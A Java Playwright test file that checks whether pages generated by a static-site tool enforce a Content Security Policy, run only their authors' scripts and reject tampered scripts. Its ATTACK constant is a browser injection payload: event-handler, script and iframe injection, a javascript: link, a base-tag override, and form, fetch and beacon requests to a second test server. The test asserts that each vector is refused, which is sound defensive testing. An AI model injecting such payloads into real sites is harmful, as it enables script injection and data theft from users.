package vivarium.tests.hostile;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Browser;
import com.microsoft.playwright.Page;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Locale;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import vivarium.tests.browser.Chromium;
import vivarium.tests.browser.Eventually;
import vivarium.tests.browser.TamperingServer;
import vivarium.tests.browser.WrittenSite;

/** Pages run the scripts that they were built with, and no others. */
class PagePolicyTest {
  @RegisterExtension static final Chromium CHROMIUM = new Chromium();

  /** What a stranger would put into a page, could they get past all cleaning. */
  private static final String ATTACK =
      """
      async (other) => {
        const seen = (window.refused = []);
        addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
        const add = (name, values, text = "") => {
          const element = Object.assign(document.createElement(name), values);
          element.textContent = text;
          document.body.append(element);
          return new Promise((done) => (element.onload = element.onerror = done));
        };
        const html = document.createElement("div");
        html.innerHTML = `<img src="x:" onerror="window.ran = 'handler'"><svg onload="window.ran = 'svg'"></svg>`;
        document.body.append(html);
        void add("script", {}, "window.ran = 'script'");
        void add("script", { type: "module" }, "window.ran = 'module'");
        await add("script", { src: other + "stolen.js" });
        await add("iframe", { srcdoc: "<script>parent.ran = 'frame'</script>" });
        void add("iframe", { src: other + "stolen.html" });
        void add("object", { data: other + "stolen.pdf" });
        void add("base", { href: other });
        const link = document.createElement("a");
        link.href = "javascript:window.ran = 'link'";
        document.body.append(link);
        link.click();
        const form = document.createElement("form");
        form.action = other + "stolen.form";
        document.body.append(form);
        form.submit();
        await fetch(other + "stolen.json").catch(() => {});
        navigator.sendBeacon(other + "stolen.beacon");
      }
      """;

  /** As the manual says it. */
  private static final String STRICT =
      """
      <!doctype html>
      <html><head>
      <meta http-equiv="Content-Security-Policy"
        content="default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self' 'unsafe-inline'; img-src * data: blob:; connect-src 'self' data:; worker-src 'self' blob:; object-src 'none'; base-uri 'self'">
      <title>Strict</title>
      <script type="module" src="https://pyscript.net/releases/2026.1.1/core.js"></script>
      </head><body><p id="out"></p>
      <script type="py">
      from pyscript import display
      display(6 * 7, target="out")
      </script>
      </body></html>
      """;

  @TempDir static Path disk = Path.of("");
  private static TamperingServer other;
  private static TamperingServer site;
  private static Path page = Path.of("");

  @BeforeAll
  static void build() throws IOException {
    write("lib.js", "export const answer = 42;");
    write(
        "cdn.js",
        "const s = document.createElement('script'); s.text = 'window.more = eval(\"1\")';"
            + " document.head.append(s); window.cdn = 'ran';");
    write("stolen.js", "window.ran = 'file'");
    write("data.json", "{}");
    other = TamperingServer.start(disk);
    String cell = "\n```python {run #cell}\n6 * 7\n```\n";
    WrittenSite written =
        new WrittenSite()
            .with("plain.md", "---\nformat: [page, slides, notebook]\n---\n\n# Plain\n" + cell)
            .with("network.md", "---\nnetwork: [" + origin() + "]\n---\n\n# Network\n" + cell)
            .with("theme/theme.css", "h1 { color: rgb(1, 2, 3) }")
            .with("mine.js", "window.mine = eval(\"'ran'\")")
            .with(
                "own.md",
                """
                ---
                theme: theme
                css: [own.css]
                ---

                # Own

                <script>window.inline = "ran"</script>
                <script src="mine.js"></script>
                <button id="press" onclick="window.pressed = 'ran'">Press</button>
                <p style="color: rgb(7, 8, 9)" id="styled">Styled</p>
                """)
            .with(
                "own.css",
                "@import \"%sfonts.css\"; h1 { font-weight: 300 }".formatted(other.url("")))
            .with(
                "module.md",
                "# M\n\n<script type=\"module\">\nimport { answer } from \"%slib.js\";\nwindow.answer = answer;\n</script>\n"
                    .formatted(other.url("")))
            .with("strict.html", STRICT)
            .with("cdn.md", "# C\n\n<script src=\"%scdn.js\"></script>\n".formatted(other.url("")));
    assertThat(written.run().exitCode()).isZero();
    site = written.tamper();
    page = written.file("own.html");
  }

  private static void write(String name, String text) throws IOException {
    Files.writeString(disk.resolve(name), text);
  }

  private static String origin() {
    return other.url("").substring(0, other.url("").length() - 1);
  }

  @BeforeEach
  void nothing_was_asked_for() {
    site.reset();
    other.reset();
    for (String name : List.of("lib.js", "data.json")) {
      other.declare(name, "Access-Control-Allow-Origin", "*");
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"plain.html", "plain.slides.html", "plain.notebook.html"})
  void what_comes_into_a_page_runs_nothing_and_asks_nobody(String name) {
    Page opened = open(name);
    opened.evaluate(ATTACK, other.url(""));
    for (String rule :
        new String[] {
          "script-src-elem",
          "script-src-attr",
          "frame-src",
          "object-src",
          "base-uri",
          "form-action",
          "connect-src"
        }) {
      Eventually.holds(opened, "(rule) => window.refused.includes(rule)", rule);
    }
    assertThat(opened.evaluate("String(window.ran)")).isEqualTo("undefined");
    assertThat(other.asked("")).isZero();
  }

  @Test
  void scripts_and_styles_that_the_author_wrote_are_there() {
    Page opened = open("own.html");
    opened.locator("#press").click();
    assertThat(opened.evaluate("[inline, mine, pressed].join()")).isEqualTo("ran,ran,ran");
    assertThat(opened.locator("#styled")).hasCSS("color", "rgb(7, 8, 9)");
    assertThat(opened.locator("h1").first()).hasCSS("color", "rgb(1, 2, 3)");
    assertThat(opened.evaluate("fetch('" + other.url("data.json") + "').then((r) => r.ok)"))
        .isEqualTo(true);
    assertThat(refusals()).isEmpty();
  }

  @Test
  void a_script_of_the_author_loads_modules_from_a_host_that_it_names() {
    Eventually.holds(open("module.html"), "window.answer === 42");
    assertThat(CHROMIUM.problems()).isEmpty();
  }

  @Test
  void a_script_from_another_host_may_do_what_it_wants() {
    assertThat(open("cdn.html").evaluate("[cdn, more].join()")).isEqualTo("ran,1");
    assertThat(CHROMIUM.problems()).isEmpty();
  }

  @Test
  void a_page_from_the_disk_has_its_styles_and_runs_its_authors_scripts() {
    Page opened = CHROMIUM.blank(new Browser.NewContextOptions());
    opened.navigate(page.toUri().toString());
    opened.locator("#press").click();
    assertThat(opened.evaluate("[inline, mine, pressed].join()")).isEqualTo("ran,ran,ran");
    assertThat(opened.locator("h1").first()).hasCSS("color", "rgb(1, 2, 3)");
    assertThat(refusals()).isEmpty();
  }

  @Test
  void a_page_of_html_runs_python_under_the_policy_that_the_manual_has_for_it() {
    assertThat(open("strict.html").locator("#out")).hasText("42");
    assertThat(refusals()).isEmpty();
  }

  @Test
  void a_page_may_ask_the_hosts_that_its_document_allows() {
    String ask = "fetch('" + other.url("data.json") + "').then((r) => r.ok, () => false)";
    assertThat(open("network.html").evaluate(ask)).isEqualTo(true);
    assertThat(open("plain.html").evaluate(ask)).isEqualTo(false);
  }

  @ParameterizedTest
  @ValueSource(strings = {"page.js", "vivarium.js"})
  void a_script_with_another_byte_is_refused_and_the_page_is_read_as_paper_is(String script) {
    site.change(
        script,
        bytes ->
            (new String(bytes, StandardCharsets.UTF_8) + "\nwindow.ran = 1")
                .getBytes(StandardCharsets.UTF_8));
    Page opened = open("plain.html");
    assertThat(opened.locator("viv-cell")).containsText("42");
    assertThat(CHROMIUM.problems())
        .anyMatch(problem -> problem.toLowerCase(Locale.ROOT).contains("integrity"));
    assertThat(opened.evaluate("String(window.ran)")).isEqualTo("undefined");
    assertThat(opened.locator("viv-cell .cm-editor, viv-cell button")).hasCount(0);
  }

  private static Page open(String name) {
    Page opened = CHROMIUM.blank(new Browser.NewContextOptions());
    opened.navigate(site.url(name));
    return opened;
  }

  private static List<String> refusals() {
    return CHROMIUM.problems().stream()
        .filter(problem -> problem.contains("Content Security Policy"))
        .toList();
  }
}
